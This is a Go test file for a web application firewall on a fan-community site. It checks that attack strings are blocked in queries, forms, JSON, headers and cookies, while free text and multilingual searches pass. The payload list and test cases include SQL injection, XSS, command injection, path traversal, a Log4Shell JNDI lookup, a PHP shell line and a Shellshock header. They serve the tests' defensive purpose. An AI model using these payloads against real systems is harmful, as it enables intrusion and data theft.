package edge_test

import (
	"bytes"
	"io"
	"mime/multipart"
	"net/http"
	"net/url"
	"strconv"
	"strings"
	"testing"

	"lightstick/internal/edge"
	"lightstick/internal/observe"
)

// guarded is a site behind a WAF, with a page, a form, an API operation and a form with files.
func guarded(t testing.TB) (*site, *observe.Observer) { return guardedLog(t, &syncBuffer{}) }

func guardedLog(t testing.TB, log *syncBuffer) (*site, *observe.Observer) {
	t.Helper()
	obs := observe.New(observe.Options{Log: log})
	waf, err := edge.NewWAF(edge.WAFOptions{FreeText: []string{"title", "body", "password", "aliases"}, Observer: obs})
	if err != nil {
		t.Fatal(err)
	}
	echo := func(w http.ResponseWriter, r *http.Request) error {
		_, err := io.Copy(w, r.Body)
		return err
	}
	files := func(w http.ResponseWriter, r *http.Request) error {
		if err := r.ParseMultipartForm(1 << 20); err != nil {
			return err
		}
		return edge.Inspect(r, r.PostForm)
	}
	search := func(w http.ResponseWriter, r *http.Request) error {
		_, err := io.WriteString(w, "found")
		return err
	}
	wide := edge.Limit(edge.Rate{Per: 1, Burst: 1 << 20})
	s, stop := newSite(t, edge.Config{WAF: waf, Routes: []edge.Route{
		page(search, edge.Query("q")),
		{Method: "GET", Path: "/me", Policy: edge.Personal("me"), Handle: search},
		{Method: "POST", Path: "/form", Policy: edge.Write("form", wide), Handle: echo},
		{Method: "POST", Path: "/api", Policy: edge.Write("api", edge.Bearer(), wide), Handle: echo},
		{Method: "POST", Path: "/files", Policy: edge.Write("files", wide), Handle: files},
	}})
	t.Cleanup(stop)
	return s, obs
}

func attacks() []string {
	return []string{"' OR 1=1 --", "1 UNION SELECT password FROM users", "1'; DROP TABLE posts;--", "admin' AND SLEEP(5)#",
		"<script>alert(1)</script>", `"><img src=x onerror=alert(1)>`, "＜script＞alert(1)＜/script＞", ";cat /etc/passwd", "$(id)",
		"../../../../etc/passwd", "${jndi:ldap://x.example/a}", "<?php system('id'); ?>"}
}

func TestAttacksAreRefused(t *testing.T) {
	s, _ := guarded(t)
	form := []string{"Content-Type", "application/x-www-form-urlencoded"}
	js := []string{"Content-Type", "application/json", "Authorization", "Bearer x"}
	for _, a := range attacks() {
		quoted := strings.NewReplacer(`\`, `\\`, `"`, `\"`).Replace(a)
		for where, got := range map[string]int{
			"search":      s.get("/ko/p/1?q=" + url.QueryEscape(a)).Code,
			"query":       s.get("/me?x=" + url.QueryEscape(a)).Code,
			"form field":  s.do("POST", "/form", "board=3&next="+url.QueryEscape(a), form...).Code,
			"JSON field":  s.do("POST", "/api", `{"body":"fine","slug":"`+quoted+`"}`, js...).Code,
			"JSON nested": s.do("POST", "/api", `{"a":[{"b":["`+quoted+`"]}]}`, js...).Code,
		} {
			if got != http.StatusForbidden {
				t.Errorf("%s in a %s: %d", a, where, got)
			}
		}
	}
	if got := s.get("/ko/p/1", "User-Agent", "() { :; }; /bin/bash -c 'id'").Code; got != http.StatusForbidden {
		t.Errorf("an attack in a header: %d", got)
	}
	if got := s.get("/me", "Cookie", "other=1' UNION SELECT password FROM users--").Code; got != http.StatusForbidden {
		t.Errorf("an attack in a cookie: %d", got)
	}
}

// TestRepeatedNames: each value is looked at whatever its neighbours are called. The rule set's order
// is random, so once is not enough.
func TestRepeatedNames(t *testing.T) {
	s, _ := guarded(t)
	js := []string{"Content-Type", "application/json", "Authorization", "Bearer x"}
	for range 100 {
		for where, got := range map[string]int{
			"JSON list":       s.do("POST", "/api", `{"a":"","b":["","$(id)",""]}`, js...).Code,
			"JSON empty name": s.do("POST", "/api", `{"a":"","":["","$(id)",""]}`, js...).Code,
			"form":            s.do("POST", "/form", "a=&b=&b=$(id)&b=", "Content-Type", "application/x-www-form-urlencoded").Code,
			"query":           s.get("/me?a=&b=&b=$(id)&b=").Code,
		} {
			if got != http.StatusForbidden {
				t.Fatalf("an attack in a %s with repeated names: %d", where, got)
			}
		}
	}
}

// TestFreeText: whoever writes about SQL, HTML or shells on a board is a fan of these, too.
func TestFreeText(t *testing.T) {
	s, _ := guarded(t)
	for _, a := range attacks() {
		quoted := strings.NewReplacer(`\`, `\\`, `"`, `\"`).Replace(a)
		body := "title=" + url.QueryEscape(a) + "&body=" + url.QueryEscape(strings.Repeat(a+" ", 300))
		if got := s.do("POST", "/form", body, "Content-Type", "application/x-www-form-urlencoded"); got.Code != 200 || got.Body.String() != body {
			t.Errorf("%s as free text of a form: %d, or the body did not arrive whole", a, got.Code)
		}
		body = `{"title":"` + quoted + `","aliases":[["` + quoted + `"],{"x":"` + quoted + `"}]}`
		if got := s.do("POST", "/api", body, "Content-Type", "application/json", "Authorization", "Bearer x"); got.Code != 200 || got.Body.String() != body {
			t.Errorf("%s as free text of JSON: %d, or the body did not arrive whole", a, got.Code)
		}
	}
}

// TestPlainSearches: words that fans look for, among them those that look like something else to
// rules that know ASCII only.
func TestPlainSearches(t *testing.T) {
	s, _ := guarded(t)
	for _, q := range []string{
		"컴백", "ㅈㄱ", "새 앨범 언제 나와요?", "우리 애들 1위 했으면 좋겠다 ㅠㅠ", "같이 가실 분 (2명)", "응원봉 & 포카",
		"คอนเสิร์ตกรุงเทพ", "อยากไปงานแฟนมีตมากๆ เลยค่ะ", "บัตรหมดแล้วหรือยังคะ", "ก็หิว มากเลยค่ะ", "เพลงใหม่เพราะมาก 555", "ขอรายละเอียด โซน 2 ครับ",
		"konser Jakarta kapan?", "tiket presale habis", "lagu baru enak banget", "nonton bareng yuk",
		"find my way lyrics", "time to shine", "who is the leader", "watch party tonight", "select stores only", "the union of 2 fandoms",
		"where to buy merch?", "don't stop", "I'm so happy :)", "1st win!", "rock'n'roll", "order by friday", "drop the beat",
		"新曲の発売日はいつ？", "抽選結果＆一般発売", "¿cuándo es el concierto?", "canción nueva", "r&b", "100% real", "C#", "<3",
	} {
		if got := s.get("/ko/p/1?q=" + url.QueryEscape(q)).Code; got != http.StatusOK {
			t.Errorf("search for %q: %d", q, got)
		}
	}
}

func TestFormWithFiles(t *testing.T) {
	s, _ := guarded(t)
	send := func(name, value string) int {
		var b bytes.Buffer
		m := multipart.NewWriter(&b)
		f, err := m.CreateFormFile("image", "a.png")
		if err != nil {
			t.Fatal(err)
		}
		_, _ = f.Write([]byte("<script>in the file</script>"))
		_ = m.WriteField(name, value)
		_ = m.Close()
		return s.do("POST", "/files", b.String(), "Content-Type", m.FormDataContentType()).Code
	}
	if got := send("body", "<script>alert(1)</script>"); got != http.StatusOK {
		t.Errorf("free text: %d", got)
	}
	if got := send("next", "<script>alert(1)</script>"); got != http.StatusForbidden {
		t.Errorf("another field: %d", got)
	}
}

func TestFieldsAreBounded(t *testing.T) {
	s, _ := guarded(t)
	js := []string{"Content-Type", "application/json", "Authorization", "Bearer x"}
	many := "{" + strings.Repeat(`"x":"y",`, 20000) + `"z":1}`
	for name, got := range map[string]int{
		"many names":  s.do("POST", "/api", many, js...).Code,
		"one long":    s.do("POST", "/api", `{"x":"`+strings.Repeat("a", 20<<10)+`"}`, js...).Code,
		"form fields": s.do("POST", "/form", strings.Repeat("a=b&", 300), "Content-Type", "application/x-www-form-urlencoded").Code,
	} {
		if got != http.StatusRequestEntityTooLarge {
			t.Errorf("%s: %d", name, got)
		}
	}
	for name, body := range map[string]string{"broken": `{"a":`, "deep": strings.Repeat(`[`, 50000), "closing": `}]}]`, "empty": ` `} {
		if got := s.do("POST", "/api", body, js...); got.Code != 200 || got.Body.String() != body {
			t.Errorf("%s JSON is the handler's to refuse: %d", name, got.Code)
		}
	}
}

// TestRefusalIsNoted: the log says which rule and where, and nothing of what was sent.
func TestRefusalIsNoted(t *testing.T) {
	log := &syncBuffer{}
	s, obs := guardedLog(t, log)
	if got := s.get("/ko/p/1?q=" + url.QueryEscape("secret' UNION SELECT x FROM y--")); got.Code != 403 || got.Header().Get("Cache-Control") != "no-store" {
		t.Fatalf("%d %v", got.Code, got.Header())
	}
	if err := obs.Flush(); err != nil {
		t.Fatal(err)
	}
	if l := log.String(); !strings.Contains(l, `"family":"sqli","rules":["942`) || !strings.Contains(l, "942100 ARGS:q") || strings.Contains(l, "secret") {
		t.Errorf("log: %s", l)
	}
	want := `lightstick_waf_refused_total{family="sqli"} 1`
	families, err := obs.Metrics.Gather()
	if err != nil {
		t.Fatal(err)
	}
	var text strings.Builder
	for _, f := range families {
		for _, m := range f.GetMetric() {
			if f.GetName() == "lightstick_waf_refused_total" && m.GetCounter().GetValue() > 0 {
				text.WriteString(f.GetName() + `{family="` + m.GetLabel()[0].GetValue() + `"} 1`)
			}
		}
	}
	if text.String() != want {
		t.Errorf("metrics: %s", text.String())
	}
}

// BenchmarkWAF is the cost of a page and of a post of 1 KB, to be held against 2 ms and 5 ms.
func BenchmarkWAF(b *testing.B) {
	s, _ := guarded(b)
	b.Run("search", func(b *testing.B) { // each another
		for n := 0; b.Loop(); n++ {
			if s.get("/me?q=%EC%BB%B4%EB%B0%B1+"+strconv.Itoa(n), "User-Agent", "Mozilla/5.0 (Linux; Android 14) AppleWebKit/537.36 Chrome/130.0.0.0 Mobile Safari/537.36",
				"Accept", "text/html,application/xhtml+xml;q=0.9,*/*;q=0.8", "Accept-Language", "ko-KR,ko;q=0.9", "Accept-Encoding", "gzip, br").Code != 200 {
				b.Fatal("refused")
			}
		}
	})
	body := `{"title":"컴백 축하해요","board":12,"body":"` + strings.Repeat("오늘 무대 정말 좋았어요! ", 30) + `"}`
	post := func(b *testing.B, agent func(n int) string) {
		for n := 0; b.Loop(); n++ {
			if s.do("POST", "/api?n="+strconv.Itoa(n), body, "Content-Type", "application/json", "Authorization", "Bearer x", "User-Agent", agent(n)).Code != 200 {
				b.Fatal("refused")
			}
		}
	}
	b.Run("post", func(b *testing.B) { post(b, func(n int) string { return "Mozilla/5.0 fan " + strconv.Itoa(n) }) })
	b.Run("like", func(b *testing.B) { post(b, func(int) string { return "Mozilla/5.0" }) }) // differs by a number only
}

// TestTheLikeIsKnown: what differs from an innocent request by numbers and keys only is not judged
// again; what differs by anything else is, and an attack never becomes known.
func TestTheLikeIsKnown(t *testing.T) {
	s, obs := guarded(t)
	known := func() float64 {
		families, err := obs.Metrics.Gather()
		if err != nil {
			t.Fatal(err)
		}
		for _, f := range families {
			if f.GetName() == "lightstick_waf_known_total" {
				return f.GetMetric()[0].GetCounter().GetValue()
			}
		}
		t.Fatal("no metric")
		return 0
	}
	js := []string{"Content-Type", "application/json", "Authorization", "Bearer x"}
	comment := func(key, slug, agent string) int {
		return s.do("POST", "/api?n=7&back=%2Fko%2Fp%2F17", `{"body":"fine","slug":"`+slug+`"}`, append(js, "Idempotency-Key", key, "User-Agent", agent)...).Code
	}
	const key, agent = "0193f3a2-7b1c-7f00-8000-0123456789ab", "Mozilla/5.0"
	for _, tc := range []struct {
		what string
		code int
		like bool
		do   func() int
	}{
		{"the first", 200, false, func() int { return comment(key, "news", agent) }},
		{"the same", 200, true, func() int { return comment(key, "news", agent) }},
		{"another key", 200, true, func() int { return comment("1193f3a2-7b1c-7f00-8000-0123456789ac", "news", agent) }},
		{"another word", 200, false, func() int { return comment(key, "talk", agent) }},
		{"another browser", 200, false, func() int { return comment(key, "news", "Mozilla/4.0") }},
		{"a key that is none", 200, false, func() int { return comment("1' UNION SELECT password FROM users--", "news", agent) }},
		{"an attack in a field", 403, false, func() int { return comment(key, "<script>alert(1)</script>", agent) }},
		{"the same attack", 403, false, func() int { return comment(key, "<script>alert(1)</script>", agent) }},
		{"an attack in a header", 403, false, func() int { return comment(key, "news", "() { :; }; /bin/bash -c 'id'") }},
		{"a page", 200, false, func() int { return s.get("/me?page=%2Fko%2Fp%2F17&n=4").Code }},
		{"another page", 200, true, func() int { return s.get("/me?page=%2Fko%2Fp%2F21&n=12345").Code }},
		{"an attack beside a number", 403, false, func() int { return s.get("/me?page=%2Fko%2Fp%2F21&n=1%27%20OR%201=1%20--").Code }},
		{"an attack in a path", 403, false, func() int { return s.get("/me?page=%2F..%2F..%2F..%2Fetc%2Fpasswd&n=4").Code }},
		{"an attack in a name", 403, false, func() int { return s.get("/me?page=%2Fko%2Fp%2F17&%3Cscript%3Ealert(1)%3C/script%3E=4").Code }},
	} {
		before := known()
		code := tc.do()
		if like := known() > before; code != tc.code || like != tc.like {
			t.Errorf("%s: %d, known %v; want %d, %v", tc.what, code, like, tc.code, tc.like)
		}
	}
}
